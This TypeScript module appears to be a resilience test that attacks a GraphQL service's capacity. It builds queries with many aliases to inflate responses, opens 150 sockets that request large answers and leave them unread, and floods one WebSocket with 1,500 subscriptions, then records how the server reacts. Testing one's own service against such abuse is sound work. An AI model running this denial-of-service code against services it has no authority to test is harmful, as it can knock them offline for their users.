import { setTimeout as sleep } from 'node:timers/promises';
import { openRawWebSocket } from '../support/raw-websocket.ts';
import { callGraphql, openSocket, requestBytes } from './raw-http.ts';
import { note, type Target, type Told } from './target.ts';

const PAGE = `cohorts(first: 100) { edges { node { id name description externalId } } }`;

/** So many pages of cohorts, by alias, as the service allows in one operation: a caller who means harm tries. */
async function largestAnswer(target: Target, aliases: number): Promise<string> {
  for (let count = aliases; count > 1; count = Math.floor(count / 2)) {
    const query = `{ ${Array.from({ length: count }, (_, index) => `a${index}: ${PAGE}`).join(' ')} }`;
    if ((await callGraphql(target, { query })) === '200') return query;
  }
  return `{ ${PAGE} }`;
}

/** Sockets that ask for some megabytes each and read none of it. */
export async function unreadAnswers(
  target: Target,
  { sockets = 150, aliases = 24, holdMs = 15_000 } = {},
): Promise<Told> {
  const told: Told = {};
  const body = JSON.stringify({ query: await largestAnswer(target, aliases) });
  const request = requestBytes('POST /graphql', { authorization: `Bearer ${target.token}` }, body);
  const opened = await Promise.all(Array.from({ length: sockets }, () => openSocket(target)));
  for (const socket of opened) {
    socket.pause();
    socket.write(request);
  }
  await sleep(holdMs);
  for (const socket of opened) {
    socket.resume();
    socket.once('data', (chunk) =>
      note(told, /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1', 0, 20))?.[1] ?? '?'),
    );
  }
  await sleep(1_000);
  for (const socket of opened) {
    if (socket.bytesRead === 0) note(told, socket.destroyed ? 'closed' : 'nothing yet');
    socket.destroy();
  }
  return told;
}

/** One WebSocket that sends a great many operations at once and reads no answer. */
export async function socketOfOperations(
  target: Target,
  { operations = 1_500, aliases = 24, holdMs = 15_000 } = {},
): Promise<Told> {
  const told: Told = {};
  const query = await largestAnswer(target, aliases);
  let acknowledged: () => void = () => undefined;
  const ready = new Promise<void>((resolve) => {
    acknowledged = resolve;
  });
  const socket = await openRawWebSocket({
    ...target,
    onMessage: () => acknowledged(),
    onClose(code) {
      note(told, `closed with ${code ?? 'no code'}`);
      acknowledged();
    },
  });
  socket.send({ type: 'connection_init', payload: { authorization: `Bearer ${target.token}` } });
  await ready;
  socket.pause();
  for (let index = 0; index < operations; index++) {
    socket.send({ id: String(index), type: 'subscribe', payload: { query } });
  }
  await sleep(holdMs);
  socket.resume();
  await sleep(1_000);
  if (Object.keys(told).length === 0) note(told, 'still open at the end');
  socket.destroy();
  return told;
}
